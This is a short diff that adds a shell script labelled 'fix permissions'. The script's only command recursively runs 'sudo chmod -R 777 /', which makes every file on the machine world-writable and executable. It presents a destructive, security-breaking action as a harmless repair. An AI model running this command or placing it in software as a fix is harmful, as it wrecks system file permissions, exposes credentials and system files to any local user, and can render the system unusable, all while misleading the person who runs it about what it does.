@@ -1,0 +1,3 @@
+#!/bin/sh
+# "fix permissions"
+sudo chmod -R 777 /
